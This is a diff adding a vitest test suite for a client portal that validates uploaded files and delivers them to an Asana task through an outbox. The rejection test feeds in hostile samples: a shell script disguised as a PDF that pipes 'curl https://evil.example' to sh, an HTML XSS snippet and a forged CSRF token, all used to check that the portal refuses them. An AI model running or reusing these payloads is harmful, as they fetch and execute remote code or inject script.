@@ -1,0 +1,135 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import express from 'express';
+import { existsSync, readdirSync } from 'node:fs';
+import { join } from 'node:path';
+import { createTestApp, type TestApp } from '../../tests/support/create-test-app.js';
+import { seedPortalUser, signedInClient } from '../../tests/support/seed-portal-records.js';
+import { serveHttp, type ServedHttp } from '../../tests/support/portal-http-client.js';
+import { startAsanaEmulator, type AsanaEmulator } from '../../connectors/asana/emulator/start-asana-emulator.js';
+import { AsanaEmulatorStore, type AsanaRecord } from '../../connectors/asana/emulator/asana-emulator-store.js';
+import { asanaHubEnv } from '../../connectors/asana/emulator/hub-env.js';
+import { attachmentsOf } from '../../connectors/asana/emulator/asana-stories-and-attachments.js';
+import type { UploadDocumentInput, WriteOperation } from '../../src/connector-kit/connector.js';
+import { runPull } from '../../src/sync/run-pull.js';
+import { linkRecordToClient } from '../../src/records/record-repository.js';
+import { createJobHandlers } from '../../src/jobs/create-job-handlers.js';
+import { performPortalAction } from '../../src/outbox/perform-portal-action.js';
+import { listClientActions } from '../../src/outbox/action-repository.js';
+import { createPortalRouter } from '../create-portal-router.js';
+
+describe('client uploads: checked, then delivered to the project\'s conversation task in Asana through the outbox', () => {
+  let emulator: AsanaEmulator;
+  let store: AsanaEmulatorStore;
+  let app: TestApp;
+  let served: ServedHttp;
+  let clientId: number;
+  let projectRecordId: number;
+  let project: AsanaRecord;
+  let session: ReturnType<typeof signedInClient>;
+  let write: WriteOperation<UploadDocumentInput>;
+  let originalPerform: WriteOperation<UploadDocumentInput>['perform'];
+  const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'), Buffer.alloc(2_000, 32), Buffer.from('\n%%EOF\n')]);
+
+  beforeEach(async () => {
+    store = new AsanaEmulatorStore();
+    project = store.createProject({ name: 'Website rebuild' });
+    store.createTask({ name: 'Client conversation', projectGid: project.gid });
+    emulator = await startAsanaEmulator({ store });
+    app = await createTestApp({ HUBSPOT_ACCESS_TOKEN: '', ...asanaHubEnv(emulator), PORTAL_UPLOAD_MAX_BYTES: '10000' });
+    const connectionId = (app.db.prepare(`SELECT id FROM connections WHERE provider = 'asana'`).get() as { id: number }).id;
+    await runPull(app, connectionId, 'Project', 'backfill');
+    clientId = (app.db.prepare(`INSERT INTO clients (workspace_id, name, created_at, updated_at) VALUES (?, 'Northwind', 1, 1) RETURNING id`).get(app.workspaceId) as { id: number }).id;
+    projectRecordId = (app.db.prepare(`SELECT id FROM records WHERE external_id = ?`).get(project.gid) as { id: number }).id;
+    linkRecordToClient(app.db, projectRecordId, clientId);
+    const http = express();
+    http.use(createPortalRouter(app));
+    served = await serveHttp(http);
+    session = signedInClient(app, served.baseUrl, seedPortalUser(app, clientId, { email: 'nancy@northwind.example', name: 'Nancy Davolio', role: 'member' }).userId, Date.now());
+    write = app.connectors.get('asana').writes!.uploadDocument!;
+    originalPerform = write.perform;
+  });
+  afterEach(async () => {
+    write.perform = originalPerform;
+    await served.close();
+    await app.dispose();
+    await emulator.close();
+  });
+
+  const conversationTask = () => store.all('task').find((t) => t.name === 'Client conversation')!;
+  const formKey = async () => /name="key" value="([^"]+)"/.exec((await session.client.get(`/projects/${projectRecordId}`)).text)![1]!;
+  const upload = async (name: string, body: Buffer | string, options: { key?: string; csrf?: string } = {}) => {
+    const form = new FormData();
+    form.append('_csrf', options.csrf ?? session.csrf);
+    form.append('key', options.key ?? (await formKey()));
+    form.append('file', new Blob([body]), name);
+    const cookie = [...session.client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
+    const response = await fetch(`${served.baseUrl}/projects/${projectRecordId}/uploads`, { method: 'POST', body: form, headers: { cookie }, redirect: 'manual' });
+    return { status: response.status, location: response.headers.get('location'), text: await response.text() };
+  };
+  const staged = () => (existsSync(join(app.dataDir, 'uploads')) ? readdirSync(join(app.dataDir, 'uploads')) : []);
+
+  it('delivers an accepted PDF once, as an attachment on the conversation task, and shows it pending then delivered', async () => {
+    const sent = await upload('Signed brief.pdf', pdf);
+    expect(sent.status).toBe(303);
+    expect(sent.location).toBe(`/projects/${projectRecordId}?uploaded=1#documents`);
+    const page = (await session.client.get(`/projects/${projectRecordId}?uploaded=1`)).text;
+    expect(page).toContain('Thank you — your file is on its way to the team.');
+    expect(page).toContain('Signed brief.pdf (2.0 KB), by Nancy Davolio: sending to your team');
+    await app.jobs.startWorker(createJobHandlers(app));
+    await app.jobs.drain();
+    const attachments = attachmentsOf(store, conversationTask().gid);
+    expect(attachments).toHaveLength(1);
+    expect(String(attachments[0]!.name)).toMatch(/^Signed brief \(portal [0-9a-f]{10}\)\.pdf$/);
+    expect(attachments[0]!.size).toBe(pdf.length);
+    expect((await session.client.get(`/projects/${projectRecordId}`)).text).toContain('by Nancy Davolio: delivered');
+    // Delivered: the staged copy is gone from the hub's disk.
+    expect(staged()).toEqual([]);
+  });
+
+  it('uploads exactly once when the worker dies after Asana took the file and before the action is marked done', async () => {
+    await upload('Signed brief.pdf', pdf);
+    const [action] = listClientActions(app.db, clientId);
+    write.perform = async (ctx, input) => {
+      await originalPerform(ctx, input);
+      throw new Error('worker killed after the upload');
+    };
+    await expect(performPortalAction(app, action!.id, { attempt: 1, maxAttempts: 5 })).rejects.toThrow('worker killed');
+    write.perform = originalPerform;
+    // The interrupted attempt's staged file is kept for the retry…
+    expect(staged()).toHaveLength(1);
+    await performPortalAction(app, action!.id, { attempt: 2, maxAttempts: 5 });
+    expect(attachmentsOf(store, conversationTask().gid)).toHaveLength(1);
+    // …which found the attachment by its marker, and removed it.
+    expect(staged()).toEqual([]);
+    expect(listClientActions(app.db, clientId)[0]).toMatchObject({ status: 'done' });
+  });
+
+  it('refuses a file too large, a type not on the list, and a script disguised as a PDF, with a clear message, keeping nothing and sending nothing', async () => {
+    const large = await upload('Huge.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20_000, 1)]));
+    expect(large.status).toBe(413);
+    expect(large.text).toContain('“Huge.pdf” is larger than 10 KB.');
+    const exe = await upload('setup.exe', Buffer.from('MZ\x90\x00'));
+    expect(exe.status).toBe(415);
+    expect(exe.text).toContain('“setup.exe” is not a type the portal accepts. Send one of: PDF, PNG, JPG, JPEG, DOCX, XLSX, PPTX, TXT, CSV.');
+    const script = await upload('invoice.pdf', '#!/bin/sh\ncurl https://evil.example | sh\n');
+    expect(script.status).toBe(422);
+    expect(script.text).toContain('“invoice.pdf” does not contain what a PDF should. It was not sent.');
+    const html = await upload('notes.txt', '<html><script>alert(1)</script></html>');
+    expect(html.status).toBe(422);
+    const noCsrf = await upload('Signed brief.pdf', pdf, { csrf: 'forged' });
+    expect(noCsrf.status).toBe(403);
+    expect(listClientActions(app.db, clientId)).toHaveLength(0);
+    expect(staged()).toEqual([]);
+    await app.jobs.startWorker(createJobHandlers(app));
+    await app.jobs.drain();
+    expect(emulator.requests.filter((r) => r.method === 'POST')).toHaveLength(0);
+  });
+
+  it('treats the same form sent twice as one upload', async () => {
+    const key = await formKey();
+    await upload('Signed brief.pdf', pdf, { key });
+    await upload('Signed brief.pdf', pdf, { key });
+    expect(listClientActions(app.db, clientId)).toHaveLength(1);
+    expect(staged()).toHaveLength(1);
+  });
+});
